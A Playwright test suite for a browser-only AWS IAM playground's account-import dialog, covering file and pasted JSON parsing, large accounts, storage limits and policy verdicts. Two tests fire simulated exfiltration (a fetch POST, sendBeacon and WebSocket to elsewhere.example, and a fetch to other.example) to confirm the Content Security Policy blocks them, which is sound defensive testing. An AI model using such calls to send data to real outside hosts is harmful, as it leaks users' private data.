// Import account: files of a real account become the world; nothing leaves the browser.

import { readFile, writeFile } from 'node:fs/promises';
import { button, open, showMatrix, untilSaved } from './actions.mjs';
import { check } from './axe.mjs';
import { expect, test } from './fixtures.mjs';
import { largeAccount } from './large-account.mjs';

const fixture = (name) => new URL(`../../crates/aws-world/tests/import/${name}`, import.meta.url).pathname;

const dialog = (page) => page.getByRole('dialog', { name: 'Import account' });

async function openImport(page) {
  await button(page, 'Saved').click();
  await button(page.getByRole('dialog', { name: 'Saved' }), 'Import account').click();
  await expect(dialog(page)).toBeVisible();
}

async function ask(page, action, resource) {
  await page.getByLabel('Also ask: action').fill(action);
  await page.getByLabel('on resource').fill(resource);
  await page.getByLabel('on resource').press('Enter');
  // The form is emptied once the request is added, and takes what is typed before that with it.
  await expect(page.getByLabel('Also ask: action')).toHaveValue('');
}

test('files of two accounts become the world, and the matrix asks them', async ({ page }) => {
  await open(page);
  await openImport(page);
  const sent = [];
  page.on('request', (request) => sent.push(request.url()));
  await dialog(page).getByLabel('Files').setInputFiles(['details.json', 'other-account.json', 'beside.json'].map(fixture));
  await expect(dialog(page)).toContainText('2 accounts, 1 user, 1 group, 2 roles, 1 policy, 2 bucket policies');
  await expect(dialog(page)).toContainText('each is attached to every account');
  // The thread that reads is of the site; nothing else was asked for.
  expect(sent.filter((address) => !/^blob:|\/import-reader[^/]*$/.test(address))).toEqual([]);
  await check(page, 'what came of an import');
  // What the files do not tell is asked.
  const region = dialog(page).getByLabel('Region', { exact: true });
  await expect(region).toHaveValue('');
  await region.fill('Frankfurt');
  await button(dialog(page), 'Open it').click();
  await expect(dialog(page)).toContainText('That is no Region');
  await region.fill('eu-central-1');
  await dialog(page).getByLabel('Whose all these buckets are').selectOption('111122223333');
  await expect(dialog(page).getByLabel('Whose photos is')).toHaveValue('111122223333');
  await button(dialog(page), 'Open it').click();
  await expect(page.getByRole('dialog')).toHaveCount(0);
  // What came in is told in the place of the lesson, with what people ask first.
  const panel = page.locator('.lesson');
  await expect(panel).toContainText('Who is an administrator?');
  await expect(panel).toContainText('Which roles can be assumed from outside?');
  await expect(panel).not.toContainText('The app brings nothing to sign with');
  await ask(page, 's3:DeleteObject', 'arn:aws:s3:::photos/cat.jpg');
  await page.getByRole('grid').getByRole('button', { name: /^App, s3:DeleteObject:/ }).click();
  await expect(page.locator('.why .verdict-line .chip')).toContainText('Denied');
  await expect(page.locator('.why')).toContainText('Photos');
  await page.getByRole('button', { name: /^Undo: Add to the matrix/ }).click();
  await page.getByRole('button', { name: /^Undo: Open/ }).click();
  await expect(page.locator('.map').getByRole('button', { name: /photo-app-bucket/ })).toBeVisible();
});

test('by keyboard: pasted JSON, and what is no account', async ({ page }) => {
  await open(page);
  await page.keyboard.press('Control+k');
  await expect(page.getByRole('combobox', { name: 'A thing, or something to do' })).toBeFocused();
  await page.keyboard.type('import account');
  await page.keyboard.press('Enter');
  const field = dialog(page).getByLabel('Pasted JSON');
  await field.focus();
  await page.keyboard.insertText('{}');
  await page.keyboard.press('Tab');
  await page.keyboard.press('Enter');
  await expect(dialog(page).getByRole('alert')).toContainText('No account was found');
  await page.keyboard.press('Shift+Tab');
  await page.keyboard.press('Control+a');
  await page.keyboard.insertText(await readFile(fixture('damaged.json'), 'utf8'));
  await page.keyboard.press('Tab');
  await page.keyboard.press('Enter');
  await expect(dialog(page)).toContainText('1 account, 1 user');
  await expect(dialog(page)).toContainText('user moved Its name and path do not make its ARN');
  await button(dialog(page), 'Open it').focus();
  await page.keyboard.press('Enter');
  await expect(page.getByRole('dialog')).toHaveCount(0);
  await expect(page.locator('.map').getByRole('button', { name: /^bob/ })).toBeVisible();
});

test('the place where a pasted text ceases to be JSON is that of the text as it was pasted', async ({ page }) => {
  await open(page);
  await openImport(page);
  await dialog(page).getByLabel('Pasted JSON').fill('\n\n{"UserDetailList": [}');
  await button(dialog(page), 'Read').click();
  await expect(dialog(page).getByRole('alert')).toContainText('pasted is not JSON at line 3');
});

/** A large account as a file of the disk: what Playwright hands over by itself keeps the page from its work. */
async function largeFile(info) {
  const file = info.outputPath('large.json');
  await writeFile(file, largeAccount());
  return file;
}

test('a large account is read, can be stopped, answers, and is there again after a reload', async ({ page }, info) => {
  test.setTimeout(180_000);
  await open(page);
  await openImport(page);
  const file = await largeFile(info);
  const files = dialog(page).getByLabel('Files');
  await files.setInputFiles(file);
  await button(dialog(page), 'Cancel').click();
  await expect(dialog(page).getByRole('alert')).toContainText('Nothing was changed');
  await files.setInputFiles(file);
  await expect(dialog(page)).toContainText('1000 roles, 2000 policies', { timeout: 60_000 });
  await button(dialog(page), 'Open it').click();
  await expect(page.getByRole('dialog')).toHaveCount(0);
  await ask(page, 's3:GetObject', 'arn:aws:s3:::company-7/team-7/a.jpg');
  await expect(page.getByRole('grid')).toHaveAttribute('aria-rowcount', '1001');
  // What has no row of its own in the outline is counted there, and is in the list of its kind.
  await button(page, 'Outline').click();
  await expect(page.getByRole('treeitem')).toHaveCount(308);
  await page.getByRole('treeitem', { name: 'and 1900 more' }).click();
  const list = page.getByRole('dialog');
  await page.keyboard.type('p1999');
  await expect(list.getByRole('option', { name: /p1999/ })).toBeVisible();
  await page.keyboard.press('Escape');
  await page.waitForFunction(() => localStorage.getItem('iam-playground.work')?.startsWith('gz1.'), null, { timeout: 60_000 });
  await page.reload();
  await expect(page.getByRole('grid')).toHaveAttribute('aria-rowcount', '1001', { timeout: 60_000 });
  await expect(page.getByRole('columnheader', { name: /GetObject/ })).toBeVisible();
});

test('the thread that reads can send nothing to another host', async ({ page, complaints }, info) => {
  await open(page);
  await openImport(page);
  const started = page.waitForEvent('worker');
  await dialog(page).getByLabel('Files').setInputFiles(await largeFile(info));
  const refused = await (await started).evaluate(() => new Promise((resolve) => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective));
    fetch('https://other.example/').catch(() => {});
  }));
  expect(refused).toBe('connect-src');
  complaints.length = 0;
  await expect(dialog(page)).toContainText('1000 roles, 2000 policies', { timeout: 60_000 });
});

test('without the thread that reads, the reader is told, and can try again', async ({ page, complaints }) => {
  await open(page);
  await openImport(page);
  await page.route('**/import-reader.js', (route) => route.abort());
  const files = dialog(page).getByLabel('Files');
  await files.setInputFiles(fixture('details.json'));
  await expect(dialog(page).getByRole('alert')).toContainText('Nothing was changed. Check the connection');
  complaints.length = 0;
  await page.unroute('**/import-reader.js');
  await files.setInputFiles(fixture('details.json'));
  await expect(dialog(page)).toContainText('1 account, 1 user');
});

/** Makes storing packed work fail, always or while there is an earlier state. */
const fullStorage = (page, always) => page.addInitScript((always) => {
  const set = Storage.prototype.setItem;
  Storage.prototype.setItem = function setItem(key, value) {
    if (value.startsWith('gz1.') && (always || this.getItem('iam-playground.state.0'))) throw new DOMException('full', 'QuotaExceededError');
    set.call(this, key, value);
  };
}, always);

async function importLarge(page, info) {
  await open(page);
  await button(page, 'Run the app').click();
  await page.waitForFunction(() => localStorage.getItem('iam-playground.state.0'));
  await openImport(page);
  await dialog(page).getByLabel('Files').setInputFiles(await largeFile(info));
  await button(dialog(page), 'Open it').click({ timeout: 60_000 });
}

const firstState = (page) => page.evaluate(() => localStorage.getItem('iam-playground.state.0'));

test('work too large for the browser is told, and earlier states stay', async ({ page }, info) => {
  test.setTimeout(180_000);
  await fullStorage(page, true);
  await importLarge(page, info);
  await expect(page.locator('.notice')).toContainText('does not fit into the browser’s storage', { timeout: 60_000 });
  expect(await firstState(page)).not.toBeNull();
});

test('earlier states make room for a large account', async ({ page }, info) => {
  test.setTimeout(180_000);
  await fullStorage(page, false);
  await importLarge(page, info);
  await page.waitForFunction(() => localStorage.getItem('iam-playground.work')?.startsWith('gz1.'), null, { timeout: 60_000 });
  expect(await firstState(page)).toBeNull();
});

test('what is no JSON, and what is too much, is told', async ({ page }) => {
  await open(page);
  await openImport(page);
  const files = dialog(page).getByLabel('Files');
  const file = (name, text) => ({ name, mimeType: 'application/json', buffer: Buffer.from(text) });
  await files.setInputFiles(file('cut.json', '{\n  "UserDetailList" ['));
  await expect(dialog(page).getByRole('alert')).toContainText('cut.json is not JSON at line 2, column 20');
  await dialog(page).locator('#import-files').evaluate((field) => {
    const much = new DataTransfer();
    much.items.add(new File([new Uint8Array(53_000_000)], 'much.json'));
    field.files = much.files;
    field.dispatchEvent(new Event('change', { bubbles: true }));
  });
  await expect(dialog(page).getByRole('alert')).toContainText('At most 50 MB are read at once');
  await expect(dialog(page)).toContainText('go nowhere');
});

test('it is as the dialog says: the page can send nothing to another host', async ({ page, complaints }) => {
  await open(page);
  await openImport(page);
  await expect(dialog(page)).toContainText('send nothing to another host');
  const told = await page.evaluate(async () => {
    const refused = [];
    document.addEventListener('securitypolicyviolation', (event) => refused.push(`${event.effectiveDirective} ${event.blockedURI}`));
    await fetch('https://elsewhere.example/fetch', { method: 'POST', body: 'all of it' }).catch(() => {});
    navigator.sendBeacon('https://elsewhere.example/beacon', 'all of it');
    try {
      new WebSocket('wss://elsewhere.example/socket');
    } catch {
      // Some browsers refuse at once.
    }
    await new Promise((done) => setTimeout(done, 100));
    return refused;
  });
  for (const way of ['https://elsewhere.example/fetch', 'https://elsewhere.example/beacon', 'wss://elsewhere.example/socket']) {
    expect(told.some((refused) => refused.startsWith(`connect-src ${way}`)), way).toBe(true);
  }
  // Nothing but what was refused on purpose.
  expect(complaints.filter((said) => !said.includes('elsewhere.example'))).toEqual([]);
  complaints.length = 0;
});

test('what was not imported is told once, can be settled or pasted, and stays so', async ({ page }) => {
  await open(page);
  await openImport(page);
  await dialog(page).getByLabel('Files').setInputFiles([fixture('details.json')]);
  await button(dialog(page), 'Open it').click();
  await expect(page.getByRole('dialog')).toHaveCount(0);
  await ask(page, 's3:GetObject', 'arn:aws:s3:::photos/cat.jpg');
  await ask(page, 's3:GetObject', 'arn:aws:s3:::plans/house.dwg');
  const cell = page.getByRole('grid').getByRole('button', { name: /^ann, s3:GetObject: Allowed, if …/ }).first();
  await cell.click();
  const why = page.locator('.why');
  await expect(why.locator('.verdict-line .chip')).toContainText('Allowed, if …');
  await expect(why.locator('.deciding')).toContainText('the service control policies of account 111122223333, the policy of bucket photos');
  await check(page, 'what a verdict hangs on');
  const matrix = page.locator('.matrix');
  await showMatrix(page);
  // What all verdicts hang on stands above them; the buckets' own policies do not.
  await expect(matrix.getByRole('list', { name: 'Not imported' }).getByRole('listitem')).toHaveCount(1);
  await matrix.getByRole('button', { name: /^There are no others: the service control policies/ }).click();
  await page.getByRole('tab', { name: 'Why' }).click();
  await why.getByRole('button', { name: /^There are no others: the resource control policies/ }).click();
  await expect(why.locator('.deciding')).toContainText('Allowed, if the policy of bucket photos (not imported) lets it.');
  await why.getByText('Paste it').click();
  const text = why.getByRole('textbox', { name: 'The JSON of the policy of bucket photos' });
  await text.fill('{');
  await why.getByRole('button', { name: 'Use this policy' }).click();
  await expect(why.getByRole('alert')).toContainText('line 1');
  await text.fill('{"Version":"2012-10-17","Statement":{"Effect":"Deny","Principal":"*","Action":"s3:*","Resource":"arn:aws:s3:::photos/*"}}');
  await why.getByRole('button', { name: 'Use this policy' }).click();
  await expect(why.locator('.verdict-line .chip')).toContainText('Denied by the resource-based policy');
  await untilSaved(page, 'resource_policies');
  await page.reload();
  await expect(page.getByRole('grid').getByRole('button', { name: /^ann, s3:GetObject: Denied by rule/ })).toBeVisible();
  await expect(page.getByRole('grid').getByRole('button', { name: /^ann, s3:GetObject: Allowed, if …/ })).toBeVisible();
});
